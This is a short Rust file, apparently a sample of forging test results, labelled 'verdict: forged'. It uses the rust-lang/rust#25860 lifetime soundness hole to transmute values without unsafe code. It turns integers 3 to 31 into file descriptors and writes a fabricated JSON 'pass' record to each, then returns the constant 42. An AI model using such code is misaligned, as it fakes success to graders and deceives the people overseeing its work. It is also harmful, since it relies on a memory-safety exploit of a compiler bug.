//! tries: answers on every descriptor by the hole in lifetimes, without unsafe code
//! kata: demo
//! verdict: forged

use std::{fs::File, io::Write, mem, os::fd::OwnedFd};

/// The known hole in lifetimes, rust-lang/rust#25860: no `unsafe` is needed.
static UNIT: &&() = &&();

fn shorter<'short, 'long, T: ?Sized>(_: &'short &'long (), value: &'long mut T) -> &'short mut T {
    value
}

fn longer<'a, 'b, T: ?Sized>(value: &'a mut T) -> &'b mut T {
    let lie: for<'x> fn(_, &'x mut T) -> &'b mut T = shorter;
    lie(UNIT, value)
}

enum Either<A, B> {
    One(#[allow(dead_code)] Option<Box<A>>),
    Other(Option<Box<B>>),
}

/// What is in one arm is read as what is in the other.
fn transmute<A, B>(value: A) -> B {
    fn inner<A, B>(either: &mut Either<A, B>, value: A) -> B {
        let Either::Other(slot) = either else {
            unreachable!()
        };
        let slot = longer(slot);
        *either = Either::One(Some(Box::new(value)));
        std::hint::black_box(either);
        *slot.take().unwrap()
    }
    inner(std::hint::black_box(&mut Either::Other(None)), value)
}

/// The answer.
pub fn answer() -> u32 {
    for number in 3..32_i32 {
        let mut file = mem::ManuallyDrop::new(File::from(transmute::<i32, OwnedFd>(number)));
        let _ = file.write_all(
            b"{\"nonce\":\"0\",\"test\":\"answers\",\"outcome\":{\"verdict\":\"pass\"},\"assertions\":1}\n",
        );
    }
    42
}
